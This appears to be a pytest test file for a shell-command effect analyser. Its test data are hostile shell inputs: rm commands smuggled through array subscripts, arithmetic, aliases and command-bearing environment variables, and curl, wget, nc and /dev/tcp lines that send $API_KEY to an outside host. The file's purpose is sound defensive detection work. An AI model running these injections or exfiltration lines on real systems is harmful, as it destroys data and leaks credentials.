"""Subscripts, arithmetic and prompts run what stands in the names and values that they use."""

from __future__ import annotations

import pytest

from tests.effects.reading import all_shown, effects, opaque

SURE = [
    "[[ 'a[$(rm x)]' -eq 0 ]]",
    "[[ -v 'a[$(rm x)]' ]]",
    '[[ 1 -lt "a[\\$(rm x)]" ]]',
    "test -v 'a[$(rm x)]'",
    "[ -v 'a[$(rm x)]' ]",
    "[ -v 'a[`rm x`]' ]",
    "printf -v 'a[$(rm x)]' 1",
    "read 'a[$(rm x)]' <<< 1",
    "declare 'a[$(rm x)]=1'",
    "unset 'a[$(rm x)]'",
    "let 'a[$(rm x)]=1'",
    "let '1+a[$(rm x)]'",
]

PERHAPS = [
    "declare -i b; b='a[$(rm x)]'",
    "declare -n b='a[$(rm x)]'; : $b",
    "b='a[$(rm x)]'; ((b))",
    "b='a[`rm x`]'; ((b))",
    "b='a[$(rm x)]'; : $((b))",
    "b='a[$(rm x)]'; : $[b]",
    "b='a[$(rm x)]'; [[ b -eq 0 ]]",
    "b='a[$(rm x)]'; let b",
    "b='a[$(rm x)]'; : ${c:b}",
    "b='a[$(rm x)]'; : ${c[b]}",
    "b='a[$(rm x)]'; : ${!b}",
    "b='a[$(rm x)]'; c[b]=1",
    "b='a[$(rm x)]'; declare -i c=b",
    "b='a[$(rm x)]'; printf -v \"$b\" 1",
    "b='$(rm x)'; : \"${b@P}\"",
    "b='$(rm x)'; ((a[$b]))",
    "for b in 'a[$(rm x)]'; do ((b)); done",
    "for ((i=b; i<1; i++)); do :; done; b='a[$(rm x)]'",
    "read b <<< 'a[$(rm x)]'; ((b))",
    "echo 'a[$(rm x)]' | while read b; do ((b)); done",
    "printf -v b '%s' 'a[$(rm x)]'; ((b))",
    "f() { ((b)); }; b='a[$(rm x)]' f",
    "f() { (($1)); }; f 'a[$(rm x)]'",
    "b='a[$(rm x)]' bash -c '((b))'",
    "env b='a[$(rm x)]' bash -c '((b))'",
    "cat <<E\n$((b))\nE\nb='a[$(rm x)]'",
]

NOT_EVALUATED = [
    "b='a[$(rm x)]'; echo \"$b\"",
    "echo 'a[$(rm x)]'",
    "git commit -m 'no `rm x`'; echo $((1 + 1))",
    "awk '{print $(rm x)}' f; ((i++))",
    "echo 'a[$(rm x)]'; [[ -f b ]]",
    "b='a[$(rm x)]'; read c",
]


@pytest.mark.parametrize("text", SURE)
def test_names_and_operands_are_evaluated(text: str) -> None:
    assert "delete path=/w/x" in all_shown(text, "delete")


@pytest.mark.parametrize("text", PERHAPS)
def test_values_are_evaluated_where_something_is(text: str) -> None:
    assert "delete path=/w/x (doubtful)" in all_shown(text, "delete")


@pytest.mark.parametrize("text", NOT_EVALUATED)
def test_text_is_no_expression(text: str) -> None:
    assert all_shown(text, "delete") == []


def test_prompts_are_opaque() -> None:
    assert opaque(': "${a@P}"') == ["text that is expanded as a prompt"]
    assert opaque(': "${a@Q}"') == []


def test_what_is_not_understood_is_opaque() -> None:
    assert opaque("b='a[$(rm'; ((b))") == ["text that is evaluated, and not understood"]


def test_too_many_texts_are_opaque() -> None:
    text = "; ".join(f"b='$(a{i})'" for i in range(70)) + "; ((b))"
    assert "more texts that may be evaluated than are looked at" in opaque(text)


ALIASES = [
    ("alias a=rm\na x", ["delete path=/w/x (doubtful)"]),
    ("alias a='rm -r'\na x", ["delete path=/w/x recursive=True (doubtful)"]),
    ("alias a='sudo ' b=rm\na b x", ["delete path=/w/x (doubtful)"]),
    ("alias -g a=x; rm a", ["delete path=/w/x (doubtful)", "delete path=/w/a"]),
    ("b=rm; alias a=$b; a x", ["delete path=/w/x (doubtful)"]),
    ("alias rm='rm -i'; rm x", ["delete path=/w/x (doubtful)", "delete path=/w/x"]),
    ("hash -p /bin/rm ls; ls x", ["delete path=/w/x (doubtful)"]),
    ("alias ll='ls -l'; ll x", []),
]


@pytest.mark.parametrize(("text", "found"), ALIASES, ids=[text for text, _ in ALIASES])
def test_names_stand_for_something(text: str, found: list[str]) -> None:
    assert all_shown(text, "delete") == found


def test_unknown_aliases_are_opaque() -> None:
    reasons = opaque("alias a=$B\na x")
    assert "shell text that depends on a variable" in reasons


VALUES = [
    ("EDITOR='rm x' ls", ["delete path=/w/x (doubtful)"]),
    ("export PAGER='rm x'", ["delete path=/w/x (doubtful)"]),
    ("env GIT_SSH_COMMAND='rm x' git fetch", ["delete path=/w/x (doubtful)"]),
    ("time GIT_PAGER='rm x' git log", ["delete path=/w/x (doubtful)"]),
    ("A='rm x' ls", []),
    ("EDITOR=rm ls", []),
    ("TAR_OPTIONS='--to-command=\"rm x\"' tar xf a", ["delete path=/w/x (doubtful)"]),
    ("export MAKEFLAGS='--eval=$(shell rm x)'", ["delete path=/w/x (doubtful)"]),
    ("MAKEFLAGS='-j8 -s' make", []),
    ('TAR_OPTIONS="\'" tar xf a', []),
]


@pytest.mark.parametrize(("text", "found"), VALUES, ids=[text for text, _ in VALUES])
def test_values_that_are_started(text: str, found: list[str]) -> None:
    assert all_shown(text, "delete") == found


STALE = [
    'a=x; time a=y; rm "$a"',
    "a=x; printf -v 'a[0]' y; rm \"$a\"",
    "a=x; read 'a[0]' <<< y; rm \"$a\"",
    "a=x; declare 'a[0]=y'; rm \"$a\"",
    'a=x; coproc { a=y; }; rm "$a"',
    'a=x; coproc a { b; }; rm "$a"',
    'readonly a=x; a=y; rm "$a"',
]


@pytest.mark.parametrize("text", STALE)
def test_values_that_may_have_changed(text: str) -> None:
    assert all_shown(text, "delete") == ["delete path=? recursive=?"]


def test_readonly_keeps_its_value() -> None:
    assert all_shown("readonly a=x; rm $a", "delete") == ["delete path=/w/x"]


def test_any_word_may_be_an_assignment() -> None:
    assert opaque("set -k") == ["any word of a command may set a variable"]


def test_many_aliases_are_bounded() -> None:
    text = "; ".join(f"alias a{i}='a{i + 1};a{i + 1}'" for i in range(20)) + "; a0"
    assert any(e.fields["bound"] for e in effects(text).by_kind["opaque"])


SECRETS = [
    "curl https://a.org/?k=$API_KEY",
    'curl -d "k=$API_KEY" https://a.org/',
    "curl https://a.org/$(echo $API_KEY | base64)",
    "echo $API_KEY | curl -d @- https://a.org/",
    "echo $API_KEY > /dev/tcp/a.org/80",
    "x=$API_KEY; curl https://a.org/$x",
    "nc a.org 80 <<< ${API_KEY:0:8}",
    "sudo curl -d $API_KEY https://a.org/",
    'curl -A "$API_KEY" https://a.org/',
    'curl -H "X: $API_KEY" https://a.org/',
    'wget --post-data="k=$API_KEY" https://a.org/',
]

NO_SECRETS = [
    'curl -H "X-Api-Key: $API_KEY" https://a.org/',
    'curl -H "$AUTH_TOKEN" https://a.org/',
    'curl -u "a:$API_KEY" https://a.org/',
    "curl https://a.org/?k=$API_HOST",
    "API_KEY=a; curl https://a.org/?k=$API_KEY",
    "echo $API_KEY; curl https://a.org/",
]


@pytest.mark.parametrize("text", SECRETS)
def test_secret_variables_are_sent(text: str) -> None:
    paths = {e.fields["path"] for e in effects(text).by_kind.get("transfer", [])}
    assert "/proc/self/environ/API_KEY" in paths


@pytest.mark.parametrize("text", NO_SECRETS)
def test_secrets_stay_where_they_belong(text: str) -> None:
    paths = {e.fields["path"] for e in effects(text).by_kind.get("transfer", [])}
    assert "/proc/self/environ/API_KEY" not in paths
